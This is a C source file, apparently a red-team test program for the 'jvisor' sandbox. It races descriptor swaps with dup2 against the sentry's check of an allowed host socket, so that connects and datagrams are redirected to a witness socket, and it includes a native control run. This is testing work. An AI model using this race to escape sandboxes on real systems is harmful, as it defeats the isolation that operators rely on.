/*
 * Route 8 of issue 15: the descriptor behind an allowed host socket, raced.
 *
 *   allowed serve DIR                              (on the host) the allowed sockets
 *   allowed attack WITNESS_DIR TOKEN ATTEMPTS DIR [control]
 *
 * serve holds the host sockets that `jvisor run --allow-host-socket` lets through: a stream
 * listener at DIR/s and a datagram socket at DIR/d (mode 0777, DIR 0755), accepting and
 * draining until its standard input ends; it counts nothing, since reaching them is allowed.
 *
 * attack: the sentry reaches an allowed socket through a descriptor M of its file, which it
 * opens and checks in the program's context, then hands the kernel /proc/.../fd/M. A program
 * thread that puts another file at M between the check and the call would send the call
 * there. A racer thread keeps looking through the descriptor table for an O_PATH descriptor of
 * an allowed socket file (by inode) and duplicate a descriptor of the witness's socket file
 * of the same kind over it, while the main thread connects to DIR/s (ATTEMPTS times) and
 * sends datagrams to DIR/d (ATTEMPTS times). The witness counts what
 * reaches it; the calls that reach the allowed sockets are reported, not counted.
 *
 * control (natively, where nothing checks): the main thread does what the sentry does in
 * the program's own table: opens DIR/s (or DIR/d) with O_PATH, checks its inode, and
 * connects (sends) to /proc/self/fd/M; the witness counting arrivals shows the race won.
 */
#include "redteam.h"

#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <sys/stat.h>

#define RACERS 1
#define FIRST_RACED 3
#define RACED 16

static atomic_int stop_racers;
static int witness_stream, witness_dgram;
static int control;

static int serve(const char *dir) {
    mkdir(dir, 0755);
    chmod(dir, 0755);
    char path[108];
    snprintf(path, sizeof path, "%s/s", dir);
    struct rt_addr stream_name = rt_path(path);
    snprintf(path, sizeof path, "%s/d", dir);
    struct rt_addr dgram_name = rt_path(path);
    int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
    int dgram = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0);
    if (bind(listener, (struct sockaddr *)&stream_name.sun, stream_name.length) < 0 || listen(listener, 4096) < 0 ||
        bind(dgram, (struct sockaddr *)&dgram_name.sun, dgram_name.length) < 0) {
        perror("allowed: serve");
        return 2;
    }
    chmod(stream_name.sun.sun_path, 0777);
    chmod(dgram_name.sun.sun_path, 0777);
    say("ready\n");
    long connections = 0, datagrams = 0;
    struct pollfd polls[3] = {{.fd = 0, .events = POLLIN}, {.fd = listener, .events = POLLIN},
                              {.fd = dgram, .events = POLLIN}};
    for (;;) {
        if (poll(polls, 3, -1) < 0) continue;
        if (polls[0].revents) {
            char buffer[64];
            if (read(0, buffer, sizeof buffer) <= 0) break;
        }
        for (int fd; (fd = accept(listener, NULL, NULL)) >= 0; connections++) close(fd);
        for (char byte; recv(dgram, &byte, 1, 0) >= 0; datagrams++) {}
    }
    say("allowed sockets reached: %ld connections, %ld datagrams\n", connections, datagrams);
    unlink(stream_name.sun.sun_path);
    unlink(dgram_name.sun.sun_path);
    return 0;
}

static struct stat allowed_stream, allowed_dgram;

/* Whatever O_PATH descriptor of an allowed socket file it finds, replaced by the witness's. */
static void *racer(void *unused) {
    (void)unused;
    while (!atomic_load(&stop_racers)) {
        for (int fd = FIRST_RACED; fd < FIRST_RACED + RACED; fd++) {
            struct stat st;
            if (fstat(fd, &st) != 0 || !S_ISSOCK(st.st_mode) || !(fcntl(fd, F_GETFL) & O_PATH)) continue;
            if (st.st_ino == allowed_stream.st_ino && st.st_dev == allowed_stream.st_dev) dup2(witness_stream, fd);
            else if (st.st_ino == allowed_dgram.st_ino && st.st_dev == allowed_dgram.st_dev) dup2(witness_dgram, fd);
        }
        // One core's worth of racing: on a small machine a racer that never yields starves
        // the tracer, and the attack would measure only how slow that makes the calls.
        sched_yield();
    }
    return NULL;
}

/* FD moved to the lowest free number from AT (above the raced ones). */
static int high(int fd, int at) {
    if (fd < 0) return -1;
    int moved = fcntl(fd, F_DUPFD_CLOEXEC, at);
    close(fd);
    return moved;
}

/* The address to use for PATH: PATH itself, or in the control /proc/self/fd/M of a checked O_PATH descriptor. */
static int address_for(const char *path, struct rt_addr *out, int *opened) {
    *opened = -1;
    if (!control) {
        *out = rt_path(path);
        return 1;
    }
    struct stat wanted, held;
    if (stat(path, &wanted) < 0) return 0;
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) return 0;
    *opened = fd;
    if (fstat(fd, &held) < 0 || held.st_ino != wanted.st_ino || held.st_dev != wanted.st_dev) return 0;
    char magic[sizeof out->sun.sun_path];
    snprintf(magic, sizeof magic, "/proc/self/fd/%d", fd);
    *out = rt_path(magic);
    return 1;
}

static int attack(const char *witness_dir, long attempts, const char *dir) {
    char path[108];
    struct rt_addr target = rt_witness_path(witness_dir, 's');
    witness_stream = open(target.sun.sun_path, O_PATH | O_CLOEXEC);
    target = rt_witness_path(witness_dir, 'd');
    witness_dgram = open(target.sun.sun_path, O_PATH | O_CLOEXEC);
    // Above the raced numbers, where the racers do not look.
    witness_stream = high(witness_stream, 100);
    witness_dgram = high(witness_dgram, 100);
    snprintf(path, sizeof path, "%s/s", dir);
    int found = stat(path, &allowed_stream) == 0;
    snprintf(path, sizeof path, "%s/d", dir);
    found = found && stat(path, &allowed_dgram) == 0;
    if (witness_stream < 0 || witness_dgram < 0 || !found) {
        perror("allowed: the witness's or the allowed socket files");
        return 2;
    }
    pthread_t racers[RACERS];
    for (int i = 0; i < RACERS; i++) pthread_create(&racers[i], NULL, racer, NULL);

    long connected = 0, sent = 0, total = 0;
    int last_error = 0;
    int sender = high(socket(AF_UNIX, SOCK_DGRAM, 0), 100);
    for (long i = 0; i < attempts; i++) {
        struct rt_addr address;
        int opened;
        snprintf(path, sizeof path, "%s/s", dir);
        int client = high(socket(AF_UNIX, SOCK_STREAM, 0), 100);
        total++;
        if (address_for(path, &address, &opened) &&
            connect(client, (struct sockaddr *)&address.sun, address.length) == 0)
            connected++;
        else
            last_error = errno;
        if (opened >= 0) close(opened);
        close(client);

        snprintf(path, sizeof path, "%s/d", dir);
        total++;
        if (address_for(path, &address, &opened) &&
            sendto(sender, "x", 1, MSG_DONTWAIT, (struct sockaddr *)&address.sun, address.length) == 1)
            sent++;
        else
            last_error = errno;
        if (opened >= 0) close(opened);
    }
    atomic_store(&stop_racers, 1);
    for (int i = 0; i < RACERS; i++) pthread_join(racers[i], NULL);
    say("%s: connects %ld ok %ld, sendtos %ld ok %ld (last error %s)\n", control ? "control" : "allowed", attempts,
        connected, attempts, sent, last_error ? errno_name(last_error) : "none");
    say("attempts %ld\n", total);
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 3 && strcmp(argv[1], "serve") == 0) return serve(argv[2]);
    if ((argc == 6 || (argc == 7 && strcmp(argv[6], "control") == 0)) && strcmp(argv[1], "attack") == 0) {
        control = argc == 7;
        return attack(argv[2], atol(argv[4]), argv[5]);
    }
    fprintf(stderr, "usage: allowed serve DIR | allowed attack WITNESS_DIR TOKEN ATTEMPTS DIR [control]\n");
    return 2;
}
